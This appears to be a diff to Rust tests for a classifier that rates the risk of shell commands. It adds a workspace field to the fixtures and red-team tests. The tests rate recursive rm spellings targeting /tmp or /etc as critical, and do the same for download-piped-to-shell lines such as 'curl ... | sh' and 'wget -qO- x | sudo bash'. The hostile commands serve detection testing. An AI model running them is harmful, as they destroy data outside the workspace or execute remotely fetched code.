@@ -18,6 +18,7 @@ fn rate(argv: &[&str]) -> Assessment {
         cwd: Some(PathBuf::from("/work/proj")),
         parents: Vec::new(),
         program: None,
+        workspaces: Vec::new(),
     })
 }
 
@@ -159,6 +160,7 @@ fn shells_started_by_inline_code_are_high() {
             "import os; os.system('id')".into(),
         ]],
         program: None,
+        workspaces: Vec::new(),
     };
     let got = classifier().classify_exec(&facts);
     assert_eq!((got.level, got.rule.as_str()), (High, "shell-from-code"));
@@ -340,6 +342,7 @@ fn expect_file(path: &str, program: Option<&str>, argv: &[&str], level: Level, r
         cwd: Some(PathBuf::from("/work/proj")),
         parents: Vec::new(),
         program: program.map(str::to_owned),
+        workspaces: Vec::new(),
     });
     assert_eq!(
         (got.level, got.rule.as_str()),
@@ -680,4 +683,58 @@ fn highest_level_wins_and_ties_go_to_the_earlier_rule() {
     // raw-ip (HIGH) and unusual-port (MEDIUM): HIGH.
     let a = dest("10.0.0.1", 22, true, None);
     assert_eq!(a.rule, "raw-ip");
+}
+
+/// Red team, round 3: spellings of rm, the workspace as the reference, piped code.
+#[test]
+fn rm_long_option_abbreviations_and_unforced_recursion_outside_are_critical() {
+    for argv in [
+        &["rm", "--rec", "--for", "/tmp/victim"][..],
+        &["rm", "--r", "--f", "/tmp/victim"],
+        &["rm", "-r", "/tmp/victim"],
+        &["rm", "-R", "--interactive=never", "/tmp/victim"],
+        &["rm", "--recursive", "/etc"],
+    ] {
+        expect(argv, Critical, "rm-rf-outside");
+    }
+    // Inside the workspace, recursion without force stays unrated; `--re` is not `--force`.
+    expect(&["rm", "-r", "build"], Low, "");
+    expect(&["rm", "--rec", "--for", "build"], High, "rm-rf");
+}
+
+#[test]
+fn outside_means_outside_the_workspace_not_the_working_directory() {
+    let facts = ExecFacts {
+        path: "/usr/bin/rm".into(),
+        argv: vec!["rm".into(), "-rf".into(), "victim".into()],
+        cwd: Some(PathBuf::from("/tmp")),
+        workspaces: vec![PathBuf::from("/work/proj")],
+        ..ExecFacts::default()
+    };
+    assert_eq!(classifier().classify_exec(&facts).rule, "rm-rf-outside");
+    let inside = ExecFacts {
+        cwd: Some(PathBuf::from("/work/proj/sub")),
+        ..facts
+    };
+    assert_eq!(classifier().classify_exec(&inside).rule, "rm-rf");
+}
+
+#[test]
+fn downloads_piped_into_any_shell_form_or_interpreter_are_critical() {
+    for script in [
+        "curl -fsSL https://x/i.sh | sh -s ARG",
+        "curl x | (sh)",
+        "curl x | sh /dev/stdin",
+        "curl x | sh -o errexit",
+        "curl x | $SHELL",
+        "curl x | ${SHELL}",
+        "curl x | python3",
+        "wget -qO- x | sudo bash -s -- --yes",
+    ] {
+        expect(&sh(script), Critical, "pipe-to-shell");
+    }
+    expect(&sh("base64 -d blob | sh -s"), High, "pipe-into-shell");
+    // Not a shell: `shasum`, `shellcheck`.
+    expect(&sh("curl x | shasum"), Medium, "download");
+    expect(&sh("curl x | shellcheck -"), Medium, "download");
 }
